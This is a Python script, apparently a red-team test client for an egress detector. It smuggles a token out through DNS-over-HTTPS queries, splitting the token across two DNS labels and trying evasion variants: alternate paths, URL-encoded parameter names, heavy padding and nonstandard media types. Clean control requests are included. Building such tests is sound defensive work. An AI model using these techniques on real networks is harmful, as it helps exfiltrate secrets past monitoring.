#!/usr/bin/env python3
# doh_client.py - the attacker's side of 386-relay-doh: a DNS query whose
# name carries TOKEN cut into two labels (no detector matches either half;
# the resolver's upstream sees the whole name), sent to an allowed host as
# DNS over HTTPS. "clean" is an ordinary GET to the same host.
# usage: doh_client.py MODE PORT TOKEN
import base64, socket, struct, sys
mode, port, tok = sys.argv[1], int(sys.argv[2]), sys.argv[3]
h = len(tok) // 2
name = tok[:h] + "." + tok[h:] + ".x.test"
q = struct.pack(">HHHHHH", 0, 0x0100, 1, 0, 0, 0) + \
    b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 16, 1)
HD = b"Host: 127.0.0.1\r\n"
forms = {
    "post": b"POST /dq HTTP/1.1\r\n" + HD + b"Content-Type: application/dns-message\r\n"
            b"Content-Length: %d\r\n\r\n" % len(q) + q,
    "get": b"GET /dns-query?dns=" + base64.urlsafe_b64encode(q).rstrip(b"=") + b" HTTP/1.1\r\n" + HD + b"\r\n",
    "json": b"GET /resolve?name=" + name.encode() + b"&type=TXT HTTP/1.1\r\n" + HD +
            b"Accept: application/dns-json\r\n\r\n",
    "clean": b"GET /dns-info?q=hello HTTP/1.1\r\n" + HD + b"Accept: application/json\r\n\r\n",
    # redteam-egress4 (392): DoH on other paths, no DoH media type
    "resolve": b"GET /resolve?name=" + name.encode() + b" HTTP/1.1\r\n" + HD + b"\r\n",
    "name-type": b"GET /api/v1/lookup?n%61me=" + name.encode() + b"&type=16 HTTP/1.1\r\n" + HD + b"\r\n",
    "pad-name-type": b"GET /q?pad=" + b"p" * 1200 + b"&name=" + name.encode() + b"&type=TXT HTTP/1.1\r\n" +
                     HD + b"\r\n",
    "dns-param": b"GET /x/y?ct=1&dns=" + base64.urlsafe_b64encode(q).rstrip(b"=") + b" HTTP/1.1\r\n" + HD + b"\r\n",
    "udpwire": b"POST /q HTTP/1.1\r\n" + HD + b"Content-Type: application/dns-udpwireformat\r\n"
               b"Content-Length: %d\r\n\r\n" % len(q) + q,
    "clean-name": b"GET /users?name=alice.smith&type=user&dns=hello HTTP/1.1\r\n" + HD + b"\r\n",
}
try:
    c = socket.create_connection(("127.0.0.1", port)); c.sendall(forms[mode]); c.settimeout(2)
    print(mode, c.recv(10))
except OSError as e:
    print(mode, "error", e)
